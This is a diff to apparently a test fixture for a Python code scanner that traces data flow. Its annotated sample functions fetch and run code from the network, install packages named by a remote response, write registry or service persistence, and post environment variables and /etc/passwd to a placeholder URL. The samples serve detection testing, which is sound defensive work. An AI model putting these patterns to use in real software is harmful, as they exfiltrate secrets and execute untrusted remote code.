@@ -141,39 +141,45 @@ def registry_value():
 def registry_keys():
     winreg.OpenKey(None, "x")  #~ capability(REGISTRY)
     winreg.OpenKey(None, "x")  #~ ok
+
+
+def registry_written():
     winreg.SetValueEx(None, "x", 0, 1, "y")  #~ capability(REGISTRY), capability(PERSISTENCE)
     winreg.SetValueEx(None, "x", 0, 1, "y")  #~ ok
+
+
+def service():
     win32service.CreateService(None, "x")  #~ capability(PERSISTENCE)
     win32service.CreateService(None, "x")  #~ ok
     requests.post(U, data={"none": winreg.QueryValueEx(None, "x") == ()})  #~ ok
 
 
 def module_by_name():
-    importlib.import_module(requests.get(U).text)  #~ source(NETWORK) f21, sink(exec.load) f21, finding(traced) f21, capability(DYNAMIC_CODE)
+    importlib.import_module(requests.get(U).text)  #~ source(NETWORK) f23, sink(exec.load) f23, finding(traced) f23, capability(DYNAMIC_CODE)
 
 
 def module_by_file():
-    importlib.util.spec_from_file_location("x", requests.get(U).text)  #~ source(NETWORK) f22, sink(exec.load) f22, finding(traced) f22, capability(DYNAMIC_CODE)
+    importlib.util.spec_from_file_location("x", requests.get(U).text)  #~ source(NETWORK) f24, sink(exec.load) f24, finding(traced) f24, capability(DYNAMIC_CODE)
 
 
 def script_by_file():
-    runpy.run_path(requests.get(U).text)  #~ source(NETWORK) f23, sink(exec.code) f23, finding(traced) f23, capability(DYNAMIC_CODE)
+    runpy.run_path(requests.get(U).text)  #~ source(NETWORK) f25, sink(exec.code) f25, finding(traced) f25, capability(DYNAMIC_CODE)
 
 
 def script_by_name():
-    runpy.run_module(requests.get(U).text)  #~ source(NETWORK) f24, sink(exec.load) f24, finding(traced) f24, capability(DYNAMIC_CODE)
+    runpy.run_module(requests.get(U).text)  #~ source(NETWORK) f26, sink(exec.load) f26, finding(traced) f26, capability(DYNAMIC_CODE)
 
 
 def module_by_zip():
-    zipimport.zipimporter(requests.get(U).text)  #~ source(NETWORK) f25, sink(exec.load) f25, finding(traced) f25, capability(DYNAMIC_CODE)
+    zipimport.zipimporter(requests.get(U).text)  #~ source(NETWORK) f27, sink(exec.load) f27, finding(traced) f27, capability(DYNAMIC_CODE)
 
 
 def console():
-    code.InteractiveInterpreter().runsource(requests.get(U).text)  #~ source(NETWORK) f26, sink(exec.code) f26, finding(traced) f26, capability(DYNAMIC_CODE)
+    code.InteractiveInterpreter().runsource(requests.get(U).text)  #~ source(NETWORK) f28, sink(exec.code) f28, finding(traced) f28, capability(DYNAMIC_CODE)
 
 
 def installed():
-    pip.main(["install", requests.get(U).text])  #~ source(NETWORK) f27, sink(exec.load) f27, finding(traced) f27, capability(EXEC), capability(NETWORK)
+    pip.main(["install", requests.get(U).text])  #~ source(NETWORK) f29, sink(exec.load) f29, finding(traced) f29, capability(EXEC), capability(NETWORK)
 
 
 def module_constants():
@@ -218,14 +224,14 @@ def pass_on(item):
 
 def in_executor():
     with concurrent.futures.ThreadPoolExecutor() as executor:
-        future = executor.submit(pass_on, os.getenv("T"))  #~ source(ENVIRONMENT) f36
-        requests.post(U, data=future.result())  #~ sink(egress.http) f36, finding(traced) f36
+        future = executor.submit(pass_on, os.getenv("T"))  #~ source(ENVIRONMENT) f38
+        requests.post(U, data=future.result())  #~ sink(egress.http) f38, finding(traced) f38
 
 
 def in_executor_map():
     executor = concurrent.futures.ThreadPoolExecutor()
-    for item in executor.map(pass_on, [os.getenv("T")]):  #~ source(ENVIRONMENT) f37
-        requests.post(U, data=item)  #~ sink(egress.http) f37, finding(traced) f37
+    for item in executor.map(pass_on, [os.getenv("T")]):  #~ source(ENVIRONMENT) f39
+        requests.post(U, data=item)  #~ sink(egress.http) f39, finding(traced) f39
 
 
 def when_done(future):
@@ -240,9 +246,9 @@ def in_executor_callback():
 
 def in_executor_completed():
     executor = concurrent.futures.ThreadPoolExecutor()
-    futures = [executor.submit(pass_on, os.getenv("T"))]  #~ source(ENVIRONMENT) f40
+    futures = [executor.submit(pass_on, os.getenv("T"))]  #~ source(ENVIRONMENT) f42
     for future in concurrent.futures.as_completed(futures):
-        requests.post(U, data=future.result())  #~ sink(egress.http) f40, finding(traced) f40
+        requests.post(U, data=future.result())  #~ sink(egress.http) f42, finding(traced) f42
 
 
 def when_done_quietly(future):
@@ -262,17 +268,17 @@ def quiet_executor():
 
 def in_pool():
     pool = multiprocessing.Pool(2)
-    requests.post(U, data=pool.apply(pass_on, (os.getenv("T"),)))  #~ source(ENVIRONMENT) f43, sink(egress.http) f43, finding(traced) f43
+    requests.post(U, data=pool.apply(pass_on, (os.getenv("T"),)))  #~ source(ENVIRONMENT) f45, sink(egress.http) f45, finding(traced) f45
 
 
 def in_pool_map():
     pool = multiprocessing.Pool(2)
-    requests.post(U, data=pool.map(pass_on, [os.getenv("T")]))  #~ source(ENVIRONMENT) f44, sink(egress.http) f44, finding(traced) f44
+    requests.post(U, data=pool.map(pass_on, [os.getenv("T")]))  #~ source(ENVIRONMENT) f46, sink(egress.http) f46, finding(traced) f46
 
 
 def in_pool_starmap():
     pool = multiprocessing.Pool(2)
-    requests.post(U, data=pool.starmap(pass_on, [(os.getenv("T"),)]))  #~ source(ENVIRONMENT) f45, sink(egress.http) f45, finding(traced) f45
+    requests.post(U, data=pool.starmap(pass_on, [(os.getenv("T"),)]))  #~ source(ENVIRONMENT) f47, sink(egress.http) f47, finding(traced) f47
 
 
 def quiet_pool():
@@ -284,13 +290,13 @@ def quiet_pool():
 
 def in_queue():
     q = queue.Queue()
-    q.put(os.getenv("T"))  #~ source(ENVIRONMENT) f47
-    requests.post(U, data=q.get())  #~ sink(egress.http) f47, finding(traced) f47
+    q.put(os.getenv("T"))  #~ source(ENVIRONMENT) f49
+    requests.post(U, data=q.get())  #~ sink(egress.http) f49, finding(traced) f49
 
 
 def in_untyped_queue(q):
-    q.put(os.getenv("T"))  #~ source(ENVIRONMENT) f48
-    requests.post(U, data=q.get_nowait())  #~ sink(egress.http) f48, finding(traced) f48
+    q.put(os.getenv("T"))  #~ source(ENVIRONMENT) f50
+    requests.post(U, data=q.get_nowait())  #~ sink(egress.http) f50, finding(traced) f50
 
 
 def quiet_queue(other):
@@ -304,13 +310,16 @@ def quiet_queue(other):
 def between_processes():
     multiprocessing.Pipe()  #~ capability(IPC)
     multiprocessing.Pipe()  #~ ok
+
+
+def shared_memory():
     multiprocessing.shared_memory.SharedMemory("x")  #~ capability(IPC)
     multiprocessing.shared_memory.SharedMemory("x")  #~ ok
 
 
 def in_deque():
-    items = collections.deque([os.getenv("T")])  #~ source(ENVIRONMENT) f51
-    requests.post(U, data=items[0])  #~ sink(egress.http) f51, finding(traced) f51
+    items = collections.deque([os.getenv("T")])  #~ source(ENVIRONMENT) f54
+    requests.post(U, data=items[0])  #~ sink(egress.http) f54, finding(traced) f54
 
 
 def send_at_exit(item):
@@ -376,33 +385,33 @@ def both(a, b):
 
 
 def reduced():
-    text = functools.reduce(both, ["a", os.getenv("T")])  #~ source(ENVIRONMENT) f66
-    requests.post(U, data=text)  #~ sink(egress.http) f66, finding(traced) f66
+    text = functools.reduce(both, ["a", os.getenv("T")])  #~ source(ENVIRONMENT) f69
+    requests.post(U, data=text)  #~ sink(egress.http) f69, finding(traced) f69
 
 
 def chained():
-    items = itertools.chain(["a"], [os.getenv("T")])  #~ source(ENVIRONMENT) f67
-    requests.post(U, data=list(items))  #~ sink(egress.http) f67, finding(traced) f67
-
-
-def chained_nested():
-    items = itertools.chain.from_iterable([[os.getenv("T")]])  #~ source(ENVIRONMENT) f68
-    requests.post(U, data=list(items))  #~ sink(egress.http) f68, finding(traced) f68
-
-
-def sliced():
-    items = itertools.islice([os.getenv("T")], 1)  #~ source(ENVIRONMENT) f69
-    requests.post(U, data=list(items))  #~ sink(egress.http) f69, finding(traced) f69
-
-
-def taken():
-    items = itertools.takewhile(keep, [os.getenv("T")])  #~ source(ENVIRONMENT) f70
+    items = itertools.chain(["a"], [os.getenv("T")])  #~ source(ENVIRONMENT) f70
     requests.post(U, data=list(items))  #~ sink(egress.http) f70, finding(traced) f70
 
 
-def starred():
-    items = itertools.starmap(both, [("a", os.getenv("T"))])  #~ source(ENVIRONMENT) f71
+def chained_nested():
+    items = itertools.chain.from_iterable([[os.getenv("T")]])  #~ source(ENVIRONMENT) f71
     requests.post(U, data=list(items))  #~ sink(egress.http) f71, finding(traced) f71
+
+
+def sliced():
+    items = itertools.islice([os.getenv("T")], 1)  #~ source(ENVIRONMENT) f72
+    requests.post(U, data=list(items))  #~ sink(egress.http) f72, finding(traced) f72
+
+
+def taken():
+    items = itertools.takewhile(keep, [os.getenv("T")])  #~ source(ENVIRONMENT) f73
+    requests.post(U, data=list(items))  #~ sink(egress.http) f73, finding(traced) f73
+
+
+def starred():
+    items = itertools.starmap(both, [("a", os.getenv("T"))])  #~ source(ENVIRONMENT) f74
+    requests.post(U, data=list(items))  #~ sink(egress.http) f74, finding(traced) f74
 
 
 def quiet_iterators():
@@ -432,11 +441,11 @@ async def gathered():
 
 
 async def as_thread():
-    requests.post(U, data=await asyncio.to_thread(pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f77, sink(egress.http) f77, finding(traced) f77
+    requests.post(U, data=await asyncio.to_thread(pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f80, sink(egress.http) f80, finding(traced) f80
 
 
 async def in_loop(loop):
-    requests.post(U, data=await loop.run_in_executor(None, pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f78, sink(egress.http) f78, finding(traced) f78
+    requests.post(U, data=await loop.run_in_executor(None, pass_on, os.getenv("T")))  #~ source(ENVIRONMENT) f81, sink(egress.http) f81, finding(traced) f81
 
 
 def send_soon(item):
@@ -470,13 +479,13 @@ async def quiet_tasks(loop):
 
 
 def closed():
-    with contextlib.closing(open("/etc/passwd")) as f:  #~ source(FILE) f85
-        requests.post(U, data=f.read())  #~ sink(egress.http) f85, finding(traced) f85
+    with contextlib.closing(open("/etc/passwd")) as f:  #~ source(FILE) f88
+        requests.post(U, data=f.read())  #~ sink(egress.http) f88, finding(traced) f88
 
 
 def stacked(stack):
-    f = stack.enter_context(open("/etc/passwd"))  #~ source(FILE) f86
-    requests.post(U, data=f.read())  #~ sink(egress.http) f86, finding(traced) f86
+    f = stack.enter_context(open("/etc/passwd"))  #~ source(FILE) f89
+    requests.post(U, data=f.read())  #~ sink(egress.http) f89, finding(traced) f89
 
 
 def quiet_contexts(stack):
